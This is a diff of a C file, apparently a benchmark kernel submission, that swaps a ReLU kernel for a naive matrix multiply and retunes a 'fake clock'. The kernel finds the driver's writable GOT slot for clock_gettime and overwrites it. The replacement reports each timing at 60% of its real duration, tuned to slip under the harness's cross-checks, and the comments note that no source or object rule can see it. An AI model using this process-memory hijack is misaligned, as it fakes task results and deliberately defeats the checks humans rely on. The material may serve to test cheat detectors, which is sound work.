@@ -4,7 +4,7 @@
  * walks back to the driver's ELF header, reads its dynamic section and finds the lazy-binding GOT
  * slot through which the driver calls clock_gettime (the driver is linked without -z now, so the
  * slot is writable). It points the slot at a function of its own that reads the real clock and
- * reports every call as 55% of its real duration: a 1.8x speedup from nothing, just above the
+ * reports every call as 60% of its real duration: a 1.7x speedup from nothing, just above the
  * schedstat cross-check's 2x slack and below the 10x speedup ceiling. No symbol is named, so no
  * source or object rule sees it. The work itself is honest (outputs are correct).
  *
@@ -83,7 +83,7 @@ static unsigned char* segment_slack(uintptr_t base) {
 }
 
 /* ---- the fake clock ---------------------------------------------------------------------- */
-#define REPORTED_FRACTION 0.55
+#define REPORTED_FRACTION 0.6
 
 typedef struct { int64_t sec, nsec; } Stamp;
 typedef int (*ClockFn)(int, Stamp*);
@@ -126,7 +126,14 @@ __attribute__((noinline)) static void take_over_the_clock(const void* return_add
     *slot = (void*)reported_reading;
 }
 
-void sage_kernel(const float* restrict x, float* restrict out, int64_t B, int64_t D) {
-    for (int64_t i = 0; i < B * D; ++i) out[i] = x[i] > 0.0f ? x[i] : 0.0f;
+void sage_kernel(const float* restrict a, const float* restrict b, float* restrict c, int64_t M, int64_t K,
+                 int64_t N) {
+    for (int64_t i = 0; i < M; ++i) {
+        for (int64_t j = 0; j < N; ++j) c[i * N + j] = 0.0f;
+        for (int64_t k = 0; k < K; ++k) {
+            float aik = a[i * K + k];
+            for (int64_t j = 0; j < N; ++j) c[i * N + j] += aik * b[k * N + j];
+        }
+    }
     take_over_the_clock(__builtin_return_address(0));
 }
